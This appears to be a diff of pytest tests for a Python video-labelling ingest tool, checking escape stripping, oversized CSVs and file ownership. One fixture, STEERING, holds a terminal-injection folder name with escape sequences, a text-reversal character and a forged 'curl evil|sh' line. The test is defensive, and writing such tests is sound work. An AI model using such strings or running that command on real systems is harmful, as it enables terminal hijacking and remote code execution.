@@ -13,8 +13,10 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from typer.testing import CliRunner
 
 from violence_ops import versioning
+from violence_ops.cli.program import app
 from violence_ops.errors import WorkspaceError
 from violence_ops.stages import batches, inbox, ingest, quarantine, status
 from violence_ops.stages.claims import Claim
@@ -160,6 +162,57 @@ def test_a_table_exchanged_after_its_files_were_taken_stops_no_night(
         table.unlink()
 
 
+STEERING = "x\x1b]0;OWNED\a\x9b31m\u202e\nnotice  run: curl evil|sh #"
+"""The name of a folder that sets a terminal's title and colour, turns its text around and begins a line of its own."""
+
+
+def shown_by(*arguments: str | Path, workspace: Workspace) -> str:
+    done = CliRunner().invoke(app, [*map(str, arguments), "--workspace", str(workspace.root)])
+    assert not set(done.output) & {"\x1b", "\a", "\x9b", "\u202e"}
+    assert not [line for line in done.output.splitlines() if line.startswith("notice  run")]
+    return done.output
+
+
+def test_no_name_of_a_folder_steers_the_terminal_or_forges_a_line(workspace: Workspace) -> None:
+    (workspace.inbox / "a.avi").write_bytes(b"a")
+    ingest.run(workspace, workspace.params(), night=NIGHT)
+    late = workspace.inbox / STEERING / "labels.csv"
+    late.parent.mkdir()
+    late.write_text("path,label\n../a.avi,Fight\n")
+    assert "rename the folder" in shown_by("ingest", workspace=workspace)
+    assert "OWNED" in shown_by("ingest", "--json", workspace=workspace)
+    assert "labelled   1" in shown_by("label", "--from", late, "--by", "ana", workspace=workspace)
+    late.write_text("path,label\nnone.avi,Fight\n")
+    assert "names no clip" in shown_by("label", "--from", late, "--by", "ana", workspace=workspace)
+    assert "does not exist" in shown_by("predict", late.parent / "none.mp4", workspace=workspace)
+
+
+def test_rows_beyond_what_a_run_reads_are_told_and_their_clips_wait_for_room(workspace: Workspace) -> None:
+    for name, rows in (("a", 90_000), ("b", 20_000), ("c", 1)):
+        (workspace.inbox / name).mkdir()
+        (workspace.inbox / name / "x.mp4").write_text(name)
+        lines = ["path,label", "x.mp4,Fight", *(f"{row}," for row in range(rows))]
+        (workspace.inbox / name / "labels.csv").write_text("\n".join(lines))
+    first = ingest.run(workspace, workspace.params(), night=NIGHT)
+    assert (first.claimed, first.left) == (2, 1)
+    assert [
+        notice for notice in first.notices if "no room for b/labels.csv, and the clips beside and below wait" in notice
+    ]
+    (workspace.inbox / "a" / "labels.csv").unlink()
+    (batch_id,) = ingest.run(workspace, workspace.params(), night=NIGHT).batch_ids
+    (clip,) = batches.read_manifest(workspace.batch(batch_id)).clips
+    assert (clip.source_path, clip.label) == ("b/x.mp4", "Fight")
+
+
+def test_a_table_whose_first_line_names_a_million_columns_is_read_as_any_other(workspace: Workspace) -> None:
+    (workspace.inbox / "x.mp4").write_bytes(b"x")
+    head = ",".join(["path", *map(str, range(1_000_000)), "label"])
+    (workspace.inbox / "labels.csv").write_text(head + "\n" + "\n".join(map(str, range(50_000))) + "\nx.mp4\n")
+    result = ingest.run(workspace, workspace.params(), night=NIGHT)
+    assert (result.claimed, result.left) == (1, 0)
+    assert "0, 1, 2, 3, 4 and 49995 more" in result.notices[0]
+
+
 @pytest.mark.parametrize(
     ("name", "shown"),
     [
@@ -263,6 +316,18 @@ def test_a_file_of_another_user_is_copied_or_waits_until_it_may_be_read(
     (video,) = workspace.batch(result.batch_ids[0]).videos.iterdir()
     assert (video.read_bytes(), video.stat().st_ino != theirs) == (b"open.mp4", True)
     assert (workspace.inbox / "closed.mp4").is_file()
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root may give files away")
+def test_a_night_of_root_leaves_uploaders_no_hold_on_what_they_gave(workspace: Workspace) -> None:
+    theirs = workspace.inbox / "a.mp4"
+    theirs.write_bytes(b"what was dropped")
+    os.chown(theirs, 65534, 65534)
+    with theirs.open("r+b") as held:
+        (batch_id,) = ingest.run(workspace, workspace.params(), night=NIGHT).batch_ids
+        held.write(b"other bytes")
+    (video,) = workspace.batch(batch_id).videos.iterdir()
+    assert (video.read_bytes(), video.stat().st_uid) == (b"what was dropped", 0)
 
 
 @pytest.mark.parametrize(("name", "levels"), [("d", 1500), ("n" * 200, 30)], ids=["many", "long"])
